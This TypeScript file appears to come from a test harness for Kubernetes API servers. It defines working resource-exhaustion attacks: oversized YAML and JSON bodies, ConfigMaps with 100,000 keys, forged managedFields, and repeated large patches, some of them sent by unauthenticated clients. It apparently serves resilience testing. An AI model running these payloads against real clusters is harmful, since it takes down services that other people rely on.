/** Single requests that cost the server much more time than the client that sends them. */
import { askOnce, inLoops } from "../attack.ts";
import type { Account, Attack, AttackTarget, SentBody } from "../attack.ts";

const json = "application/json";
const yaml = "application/yaml";
const loops = 4;

interface Request {
  readonly method: string;
  readonly path: (target: AttackTarget, number: number) => string;
  readonly body?: (number: number) => SentBody;
}

/** Sends one request again and again, from accounts of a namespace or from strangers. */
function repeated(
  name: string,
  request: Request,
  senders: "accounts" | "strangers",
  times = loops,
): Attack {
  return {
    name,
    run: async (target, signal) => {
      let number = 0;
      await inLoops(times, signal, async (loop) => {
        const all = target[senders];
        const account: Account | undefined = all[loop % all.length];
        if (account === undefined) throw new Error("an attack needs an account");
        const { method, path, body } = request;
        number += 1;
        await askOnce(target, account, [method, path(target, number)], body?.(number));
      });
    },
  };
}

function mapsOf({ namespace }: AttackTarget): string {
  return `/api/v1/namespaces/${namespace}/configmaps`;
}

function configMap(number: number, content: object): SentBody {
  const metadata = { name: `attack-${number % 20}`, ...content };
  const map = { apiVersion: "v1", kind: "ConfigMap", metadata };
  return { type: json, text: JSON.stringify(map) };
}

function numbered(count: number, prefix: string, value: unknown): object {
  const entries = Array.from({ length: count }, (_, index) => [`${prefix}${index}`, value]);
  return Object.fromEntries(entries) as object;
}

const review = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews";
const longYaml: SentBody = { type: yaml, text: `a: [${"a,".repeat(125_000)}a]` };
const nestedYaml: SentBody = { type: yaml, text: `a: [${"a,".repeat(260_000)}a]` };
const manyKeys = JSON.stringify({
  apiVersion: "v1",
  kind: "ConfigMap",
  metadata: { name: "attack-keys" },
  data: numbered(100_000, "k", "v"),
});
const forged = {
  managedFields: [
    {
      manager: "forged",
      operation: "Update",
      apiVersion: "v1",
      fieldsType: "FieldsV1",
      fieldsV1: { "f:data": numbered(45_000, "f:k", {}) },
    },
  ],
};
const largeMaps = 20;
const patchLoops = 150;
const largeData = numbered(20_000, "key-", "0123456789012345678901234567890");
const operations = Array.from({ length: 10_000 }, (_, index) => ({
  op: "add",
  path: `/data/k${index}`,
  value: "v",
}));

export const attacks: readonly Attack[] = [
  repeated(
    "yaml-of-strangers",
    { method: "POST", path: () => review, body: () => longYaml },
    "strangers",
  ),
  repeated("yaml-bodies", { method: "POST", path: mapsOf, body: () => nestedYaml }, "accounts"),
  repeated(
    "many-fields",
    { method: "POST", path: mapsOf, body: () => ({ type: json, text: manyKeys }) },
    "accounts",
  ),
  repeated(
    "forged-managers",
    { method: "POST", path: mapsOf, body: (number) => configMap(number, forged) },
    "accounts",
  ),
  {
    // Each small body makes the server read and write a large document.
    ...repeated(
      "small-patches",
      {
        method: "PATCH",
        path: (target, number) => `${mapsOf(target)}/large-${number % largeMaps}`,
        body: (number) => ({
          type: "application/merge-patch+json",
          text: `{"data":{"key-0":"${number}"}}`,
        }),
      },
      "accounts",
      patchLoops,
    ),
    prepare: async (target) => {
      for (let at = 0; at < largeMaps; at++) {
        const map = { metadata: { name: `large-${at}` }, data: largeData };
        const body = { type: json, text: JSON.stringify(map) };
        await askOnce(target, target.admin, ["POST", mapsOf(target)], body);
      }
    },
  },
  {
    ...repeated(
      "long-json-patches",
      {
        method: "PATCH",
        path: (target) => `${mapsOf(target)}/patched`,
        body: () => ({ type: "application/json-patch+json", text: JSON.stringify(operations) }),
      },
      "accounts",
    ),
    prepare: async (target) => {
      const map = { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "patched" }, data: {} };
      const body = { type: json, text: JSON.stringify(map) };
      await askOnce(target, target.admin, ["POST", mapsOf(target)], body);
    },
  },
];
